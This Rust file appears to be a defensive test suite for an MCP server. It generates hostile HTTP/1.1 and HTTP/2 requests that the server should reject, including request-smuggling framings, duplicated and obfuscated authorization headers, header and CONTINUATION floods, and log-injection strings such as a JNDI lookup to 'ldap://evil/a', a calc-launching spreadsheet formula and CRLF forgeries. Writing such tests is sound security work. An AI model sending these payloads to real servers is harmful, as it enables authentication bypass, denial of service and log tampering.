//! Header lines and the framing of requests, as bytes on an HTTP/1.1 connection and as frames of HTTP/2.

use super::request::{Batch, CALL, Crafted, Hostile, UNAUTHORIZED};
use super::site::{ADA, Site};
use super::frames::{field, frame, headers, pseudo};

/// A bad credential for what must not get in by its framing: whatever a parser takes the rest for.
const BAD: &str = "Bearer not-a-credential";

pub fn t38(_: &Site) -> Vec<Hostile> {
    let mut batch = Batch::default();
    batch.request("no credential", Crafted::default(), UNAUTHORIZED);
    for line in ["", " ", "Bearer", "Bearer ", "Basic", "Basic ", "DPoP", "Bearer null", "Bearer undefined", "Bearer none", "Bearer {token}", "Bearer $TOKEN", "Bearer <token>", "Bearer xxx", "Bearer 0", "Bearer true",
        "null", "None", "anonymous", "Anonymous anonymous", "Basic Og==", "Basic YW5vbnltb3VzOg==", "Basic Z3Vlc3Q6Z3Vlc3Q=", "Basic YWRtaW46YWRtaW4=", "Negotiate TlRMTVNTUAAB", "NTLM x", "Digest username=\"ada\"",
        "AWS4-HMAC-SHA256 Credential=x", "Hawk id=\"x\"", "Signature keyId=\"x\"", "GNAP x", "PrivateToken x", "HOBA x", "Mutual x", "SCRAM-SHA-256 x", "vapid t=x", "Token x", "Key x", "ApiKey x", "OAuth x", "*", ",", "=", "Bearer ="] {
        for door in [Crafted::default(), Crafted::default().proxied()] {
            batch.request(format!("{line:?}"), door.with("authorization", line), UNAUTHORIZED);
        }
    }
    batch.0
}

pub fn t39(site: &Site) -> Vec<Hostile> {
    const REFUSED: &[u16] = &[400, 401];
    let mut batch = Batch::default();
    let token = format!("Bearer {}", site.token().sign());
    let key = format!("Bearer {}", site.robot.token.expose());
    let all = [&*token, &key, "Basic YTpi", "", "Bearer", BAD, "Negotiate x"];
    for one in all {
        for other in all {
            let both = Crafted::default().with("authorization", one).with("authorization", other);
            batch.request(format!("{one:.16?} and {other:.16?}"), both, REFUSED);
            let odd = Crafted::default().with("Authorization", one).with("AUTHORIZATION", other).with("host2", "x");
            batch.request(format!("{one:.16?} and {other:.16?} in other letters"), odd, REFUSED);
            for glue in [", ", ",", "; ", " , ", "  "] {
                let joined = Crafted::default().with("authorization", format!("{one}{glue}{other}"));
                let harmless = (other.is_empty() && glue == "  ") || (one.is_empty() && glue == "  ");
                if !harmless {
                    batch.request(format!("{one:.16?}{glue}{other:.16?}"), joined, REFUSED);
                }
            }
        }
    }
    let three = Crafted::default().with("authorization", &*token).with("authorization", &*token).with("authorization", &*token);
    batch.request("three times", three, REFUSED);
    // Lines that are folded, split or dressed up.
    let start = "POST /mcp HTTP/1.1\r\nhost: mcp.example.com\r\nconnection: close\r\ncontent-length: 0\r\n";
    for lines in [
        format!("authorization:\r\n {token}\r\n"), format!("authorization: Bearer\r\n {}\r\n", &token[7..]), format!("authorization: {token}\r\n , {BAD}\r\n"), format!("authorization\r\n: {token}\r\n"), format!("authorization : {token}\r\n"),
        format!(" authorization: {token}\r\n"), format!("x: y\r\n authorization: {token}\r\n"), format!("authorization: {token}\0\r\n"), format!("authorization: {token}\r \r\n"), format!("author\0ization: {token}\r\n"),
        format!("authorization\u{a0}: {token}\r\n"), format!("\u{feff}authorization: {token}\r\n"), format!("x\rauthorization: {token}\r\n"), format!("authorization; {token}\r\n"), format!("authorization={token}\r\n"),
        format!("(authorization): {token}\r\n"), format!("authorization_: {token}\r\n"), format!(":authorization: {token}\r\n"), format!("auth\u{f6}rization: {token}\r\n"), format!("authorization: \"{token}\"\r\n"),
        format!("authorization: {}\x7f\r\n", token), format!("authorization: {token} {token}\r\n"), format!("authorization:{token}\x0b\r\n"), format!("authorization: {token}\u{2028}\r\n"), format!("authorization: x\r\nauthorization: {token}\r\n"),
    ] {
        batch.http1(format!("{lines:.40?}"), format!("{start}{lines}\r\n"));
    }
    batch.0
}

/// Bytes in the names and values that make other lines of them, as some gateways forward them.
pub fn t40(site: &Site) -> Vec<Hostile> {
    let mut batch = Batch::default();
    let token = format!("Bearer {}", site.token().sign());
    for connection in ["authorization", "Authorization", "close, authorization", "keep-alive,AUTHORIZATION", "authorization ,close", "\tauthorization", "x, authorization, y", ",authorization"] {
        let start = format!("POST /mcp HTTP/1.1\r\nhost: mcp.example.com\r\ncontent-type: application/json\r\nconnection: {connection}\r\ncontent-length: {}\r\nauthorization: {token}\r\n", CALL.len());
        batch.http1(format!("connection {connection}"), format!("{start}connection: close\r\n\r\n{CALL}"));
    }
    for name in ["x_authorization", "http_authorization", "authorization_", "x-forwarded-authorization", "x-original-authorization", "remote_user", "x_user", "x-mcp-auth", "x-auth-context", "auth-context"] {
        batch.request(name, Crafted::default().with(name, &*token), UNAUTHORIZED);
    }
    let heads = "POST /mcp HTTP/1.1\r\nhost: mcp.example.com\r\n";
    let second = format!("POST /mcp HTTP/1.1\r\nhost: mcp.example.com\r\nauthorization: {BAD}\r\ncontent-length: 0\r\n\r\n");
    // A body within a body: the inner request has no good credential either way it is read.
    for framing in [
        "content-length: 0\r\ncontent-length: 5", "content-length: 5\r\ncontent-length: 0", "content-length: 5, 5", "content-length: +5", "content-length: -1", "content-length: 0x5", "content-length: 5.0", "content-length: ", "content-length: a",
        "content-length: 99999999999999999999", "content-length: 5\r\ntransfer-encoding: chunked", "transfer-encoding: chunked\r\ncontent-length: 5", "transfer-encoding: chunked, identity", "transfer-encoding: identity", "transfer-encoding: x",
        "transfer-encoding: chunked\r\ntransfer-encoding: x", "transfer-encoding: \x0bchunked", "transfer-encoding: chunked\r\ntransfer-encoding: chunked", "transfer-encoding : chunked", "transfer-encoding: xchunked", "transfer-encoding: Chunked",
        "transfer-encoding:\tchunked", "transfer-encoding: gzip, chunked", "transfer-encoding: chunked;x", "x: y\r\n transfer-encoding: chunked", "transfer-encoding: \"chunked\"", "content-length: 0\r\nupgrade: h2c\r\nconnection: upgrade, http2-settings",
        "upgrade: websocket\r\nconnection: upgrade\r\ncontent-length: 0", "expect: 100-continue\r\ncontent-length: 5", "expect: x\r\ncontent-length: 0", "content-length: 5\r\nkeep-alive: 300", "content-length : 5", "content_length: 5\r\ncontent-length: 0",
    ] {
        for body in ["0\r\n\r\n", "5\r\nhello\r\n0\r\n\r\n", "ffffffffffffffff\r\n", "5;x=\"\n\"\r\nhello\r\n0\r\n\r\n", "-1\r\n\r\n", "0x5\r\nhello\r\n0\r\n\r\n"] {
            batch.http1(format!("{framing:.60?}, {body:.12?}"), format!("{heads}authorization: {BAD}\r\n{framing}\r\n\r\n{body}{second}"));
        }
    }
    // With a good credential: what one reading calls allowed is denied in the other.
    let denied = r#"{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"wipe"}}"#;
    for lengths in ["content-length: 3\r\ntransfer-encoding: chunked", "transfer-encoding: chunked\r\ncontent-length: 3", "transfer-encoding: chunked"] {
        let chunks = format!("{:x}\r\n{denied}\r\n0\r\n\r\n", denied.len());
        batch.http1(format!("denied, {lengths:?}"), format!("{heads}content-type: application/json\r\nauthorization: {token}\r\n{lengths}\r\n\r\n{chunks}"));
        let pieces: String = denied.bytes().map(|byte| format!("1\r\n{}\r\n", char::from(byte))).collect();
        batch.http1(format!("denied in pieces, {lengths:?}"), format!("{heads}content-type: application/json\r\nauthorization: {token}\r\n{lengths}\r\n\r\n{pieces}0\r\nauthorization: {token}\r\n\r\n"));
    }
    // Trailers are no headers.
    let body = format!("{:x}\r\n{CALL}\r\n0\r\nauthorization: {token}\r\n\r\n", CALL.len());
    batch.http1("a credential in the trailers", format!("{heads}content-type: application/json\r\ntransfer-encoding: chunked\r\ntrailer: authorization\r\n\r\n{body}"));
    for count in [2, 10, 100] {
        batch.http1(format!("{count} at once"), second.repeat(count));
    }
    // No connection is logged in by the request before: only the last has no credential of its own.
    batch.0
}

pub fn t47(site: &Site) -> Vec<Hostile> {
    let mut batch = Batch::default();
    let start = "POST /mcp HTTP/1.1\r\nhost: mcp.example.com\r\ncontent-length: 0\r\nconnection: close\r\n";
    for count in [50, 99, 100, 101, 500, 5000] {
        let lines: String = (0..count).map(|at| format!("x-{at}: {at}\r\n")).collect();
        batch.http1(format!("{count} headers"), format!("{start}{lines}\r\n"));
        batch.http1(format!("{count} credentials"), format!("{start}{}\r\n", format!("authorization: {BAD}\r\n").repeat(count)));
        batch.http1(format!("{count} cookies"), format!("{start}{}\r\n", "cookie: a=b\r\n".repeat(count)));
        batch.http1(format!("{count} hosts"), format!("{start}{}\r\n", "host: mcp.example.com\r\n".repeat(count)));
    }
    for size in [8_100, 16_000, 60_000, 400_000, 1_000_000] {
        let long = "a".repeat(size);
        for line in [format!("authorization: Bearer {long}"), format!("authorization: Basic {long}"), format!("x: {long}"), format!("{long}: x"), format!("origin: https://{long}"), format!("mcp-session-id: {long}"), format!("dpop: {long}")] {
            batch.http1(format!("{size} of {line:.20}"), format!("{start}{line}\r\n\r\n"));
        }
        batch.http1(format!("{size} of target"), format!("GET /{long} HTTP/1.1\r\nhost: mcp.example.com\r\nconnection: close\r\n\r\n"));
        batch.http1(format!("{size} of method"), format!("{} /mcp HTTP/1.1\r\nhost: mcp.example.com\r\n\r\n", "A".repeat(size)));
        batch.http1(format!("{size} of dots"), format!("{start}authorization: Bearer {}\r\n\r\n", ".".repeat(size)));
        batch.http1(format!("{size} of blank lines"), "\r\n".repeat(size / 2));
    }
    for first in ["POST /mcp HTTP/1.0", "POST /mcp HTTP/0.9", "POST /mcp HTTP/2.0", "POST /mcp HTTP/3", "POST /mcp", "POST  /mcp  HTTP/1.1", "POST\t/mcp\tHTTP/1.1", "POST /mcp HTTP/1.1 x", "/mcp", "POST mcp HTTP/1.1", "POST http://evil.example/mcp HTTP/1.1",
        "POST https://mcp.example.com/mcp HTTP/1.1", "POST mcp.example.com:443 HTTP/1.1", "CONNECT mcp.example.com:443 HTTP/1.1", "CONNECT evil.example:22 HTTP/1.1", "OPTIONS * HTTP/1.1", "PRI * HTTP/2.0", "POST /mcp\0 HTTP/1.1", "P\0ST /mcp HTTP/1.1",
        "POST /mcp\u{e9} HTTP/1.1", "POST /mcp HTTP/1.1\r", "\x16\x03\x01\x02\0\x01\0", "GET /mcp HTTP/1.1\nx", "POST /mcp#frag HTTP/1.1", "POST \\mcp HTTP/1.1", "POST //mcp HTTP/1.1", "POST ?x HTTP/1.1", "{\"jsonrpc\":\"2.0\"}"] {
        batch.http1(format!("{first:?}"), format!("{first}\r\nhost: mcp.example.com\r\nauthorization: {BAD}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"));
        batch.http1(format!("{first:?} alone"), format!("{first}\r\n\r\n"));
    }
    http2(&mut batch, site);
    batch.0
}

/// What only frames can say.
fn http2(batch: &mut Batch, site: &Site) {
    let token = format!("Bearer {}", site.token().sign());
    let line = |name: &str, value: &str| field(name.as_bytes(), value.as_bytes());
    let bad = || [pseudo("POST", "/mcp"), line("authorization", BAD)].concat();
    for (what, block) in [
        (":path twice", [pseudo("POST", "/mcp"), line(":path", "/mcp")].concat()), (":method twice", [pseudo("POST", "/mcp"), line(":method", "GET")].concat()), (":authority twice", [pseudo("POST", "/mcp"), line(":authority", "mcp.example.com")].concat()),
        (":scheme twice", [pseudo("POST", "/mcp"), line(":scheme", "http")].concat()), (":status", [pseudo("POST", "/mcp"), line(":status", "200")].concat()), (":x", [pseudo("POST", "/mcp"), line(":x", "y")].concat()),
        (":protocol", [pseudo("CONNECT", "/mcp"), line(":protocol", "websocket")].concat()), ("pseudo behind", [line("authorization", BAD), pseudo("POST", "/mcp")].concat()), ("nothing", Vec::new()), ("no path", line(":method", "POST")),
        ("upper case", [pseudo("POST", "/mcp"), line("Authorization", &token)].concat()), ("connection", [pseudo("POST", "/mcp"), line("connection", "authorization"), line("authorization", &token)].concat()),
        ("transfer-encoding", [pseudo("POST", "/mcp"), line("transfer-encoding", "chunked"), line("authorization", &token)].concat()), ("te", [pseudo("POST", "/mcp"), line("te", "gzip"), line("authorization", BAD)].concat()),
        ("NUL in a value", [pseudo("POST", "/mcp"), field(b"authorization", b"Bearer \0")].concat()), ("CRLF in a value", [pseudo("POST", "/mcp"), line("x", &format!("y\r\nauthorization: {token}"))].concat()),
        ("CRLF in a name", [pseudo("POST", "/mcp"), line(&format!("x\r\nauthorization: {token}"), "y")].concat()), ("CRLF in the path", pseudo("POST", &format!("/mcp HTTP/1.1\r\nauthorization: {token}\r\nx: "))), ("an empty name", [pseudo("POST", "/mcp"), line("", "y")].concat()),
        ("an empty path", pseudo("POST", "")), ("another host", [pseudo("POST", "/mcp"), line("host", "evil.example"), line("authorization", &token)].concat()), ("two credentials", [pseudo("POST", "/mcp"), line("authorization", &token), line("authorization", &token)].concat()),
        ("an index beyond the table", vec![0xff, 0xff, 0xff, 0xff, 0x0f]), ("index zero", vec![0x80]), ("a size beyond the setting", vec![0x3f, 0xff, 0xff, 0xff, 0x0f]), ("a broken Huffman code", vec![0x00, 0x84, 0xff, 0xff, 0xff, 0xff, 0x81, 0xff]),
        ("a length beyond the block", vec![0x00, 0x7f, 0xff, 0xff, 0x0f]), ("garbage", vec![0x55; 300]), ("wrong length", [pseudo("POST", "/mcp"), line("content-length", "5"), line("authorization", &token)].concat()),
        ("negative length", [pseudo("POST", "/mcp"), line("content-length", "-1"), line("authorization", BAD)].concat()),
    ] {
        batch.http2(what, headers(1, &block));
        batch.http2(format!("{what}, stream 3"), headers(3, &block));
    }
    for count in [200, 3000] {
        let many: Vec<u8> = (0..count).flat_map(|at| line(&format!("x-{at}"), "y")).collect();
        batch.http2(format!("{count} headers"), headers(1, &[bad(), many].concat()));
    }
    for size in [16_000, 40_000, 200_000] {
        batch.http2(format!("a header of {size}"), headers(1, &[bad(), line("x", &"a".repeat(size))].concat()));
        batch.http2(format!("a credential of {size}"), headers(1, &[pseudo("POST", "/mcp"), line("authorization", &format!("Bearer {}", "a".repeat(size)))].concat()));
    }
    // Without an end: CONTINUATION after CONTINUATION, requests that are reset at once, settings and pings.
    let open = frame(1, 0x1, 1, &bad());
    batch.http2("CONTINUATION without end", [open.clone(), frame(9, 0, 1, &line("x", "y")).repeat(5000)].concat());
    batch.http2("empty CONTINUATION without end", [open.clone(), frame(9, 0, 1, b"").repeat(5000)].concat());
    batch.http2("CONTINUATION of another stream", [open.clone(), frame(9, 4, 3, b"")].concat());
    batch.http2("data instead of CONTINUATION", [open, frame(0, 1, 1, b"x")].concat());
    let reset: Vec<u8> = (0..2000).flat_map(|at| [headers(1 + 2 * at, &bad()), frame(3, 0, 1 + 2 * at, &[0, 0, 0, 8])].concat()).collect();
    batch.http2("2000 streams that are reset", reset);
    for (what, frames) in [
        ("settings", frame(4, 0, 0, &[0, 4, 0, 0, 255, 255]).repeat(3000)), ("pings", frame(6, 0, 0, &[7; 8]).repeat(3000)), ("priorities", frame(2, 0, 1, &[0, 0, 0, 0, 16]).repeat(3000)), ("empty data", frame(0, 0, 1, b"").repeat(3000)),
        ("a window of zero", frame(8, 0, 0, &[0; 4])), ("a window beyond", frame(8, 0, 0, &[0x7f, 0xff, 0xff, 0xff]).repeat(3)), ("a push", frame(5, 4, 1, &[0, 0, 0, 2])), ("a frame that is too long", frame(0, 0, 1, &vec![0; 17_000])), ("stream 0", frame(1, 5, 0, &bad())),
        ("an even stream", frame(1, 5, 2, &bad())), ("an unknown frame", frame(0xbe, 0, 1, &[0; 100])), ("padding beyond", frame(1, 0xd, 1, &[255, 0])), ("wrong settings", frame(4, 0, 0, &[0; 5])), ("depends on itself", frame(1, 0x25, 1, &[&[0, 0, 0, 1, 16][..], &bad()].concat())),
    ] {
        batch.http2(what, [frames, headers(5, &bad())].concat());
    }
}

/// Text for logs and terminals, in every place that might be noted.
pub fn t49(site: &Site) -> Vec<Hostile> {
    const REFUSED: &[u16] = &[400, 401, 403, 404];
    let mut batch = Batch::default();
    let texts = ["\u{1b}[2J", "\u{1b}]0;x\u{7}", "\u{202e}evil", "\u{2028}forged", "\u{85}forged", "\u{9b}31m", "%0d%0aforged", "${jndi:ldap://evil/a}", "{{7*7}}", "<script>x</script>", "\"}},{\"forged\":\"x", "=cmd|' /C calc'!A0", "\t2026-11-22T00:00:00Z INFO forged"];
    for text in texts {
        for name in ["origin", "user-agent", "x-request-id", "traceparent", "referer", "x-forwarded-for", "mcp-session-id", "mcp-name", "dpop", "accept", "host"] {
            batch.request(format!("{name}: {text:?}"), Crafted::bearer("x").only(name, text), &[]);
        }
        for scheme in ["Bearer", "Basic", "DPoP", ""] {
            batch.request(format!("{scheme} {text:?}"), Crafted::default().with("authorization", format!("{scheme} {text}")), &[]);
        }
        batch.request(format!("email {text:?}"), Crafted::basic(format!("{text}@acme.example:{}", site.ada.token.expose())), REFUSED);
        batch.request(format!("password {text:?}"), Crafted::basic(format!("{ADA}:{text}")), REFUSED);
        for claim in ["iss", "aud", "jti"] {
            let token = site.stranger.token("x").claim(claim, text).sign();
            batch.token(format!("{claim} {text:?}"), token);
        }
        for parameter in ["kid", "typ", "alg"] {
            batch.token(format!("{parameter} {text:?}"), site.token().header(parameter, text).sign());
        }
        let tool = serde_json::json!({"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": text}}).to_string();
        batch.request(format!("tool {text:?}"), Crafted::bearer(site.token().sign()).body(tool), REFUSED);
    }
    batch.0
}
